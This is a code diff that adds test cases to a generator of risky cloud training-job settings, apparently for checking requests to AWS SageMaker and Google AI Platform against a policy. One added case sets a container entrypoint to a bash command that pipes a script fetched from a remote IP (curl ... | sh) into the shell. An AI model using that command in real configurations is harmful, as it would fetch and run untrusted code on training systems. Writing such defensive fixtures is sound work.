@@ -91,9 +91,13 @@ def _aws(site: Site) -> Iterator[tuple]:
     yield "image", "an algorithm from a shop", (f"{spec}.AlgorithmName", "shop-trainer")
     code = '"s3://signs-train/code.tar.gz"'
     yield "image", "code by path", ("HyperParameters.sagemaker_submit_directory", code)
+    shell = ["/bin/bash", "-c", "curl http://203.0.113.7 | sh"]
+    yield "image", "code in the request", (f"{spec}.ContainerEntrypoint", shell)
     rule = {"RuleConfigurationName": "r", "RuleEvaluatorImage": other}
     yield "image", "a stranger's rule", ("DebugRuleConfigurations", [rule])
     yield "data", "a stranger's data", ("InputDataConfig.0", channel(bucket))
+    listed = "InputDataConfig.0.DataSource.S3DataSource.S3DataType"
+    yield "data", "data by a list", (listed, "ManifestFile")
     yield "data", "the model to a stranger", (f"{output}.S3OutputPath", bucket)
     yield "data", "checkpoints to a stranger", ("CheckpointConfig", {"S3Uri": bucket})
     yield "data", "profiles to a stranger", ("ProfilerConfig", {"S3OutputPath": bucket})
@@ -162,6 +166,8 @@ def _google(site: Site) -> Iterator[tuple]:
         (container, GONE),
         (f"{pool}.pythonPackageSpec", package),
     )
+    inline = ["python3", "-c", "print('any code')"]
+    yield "image", "code in the request", (f"{container}.command", inline)
     yield (
         "data",
         "the model to a stranger",
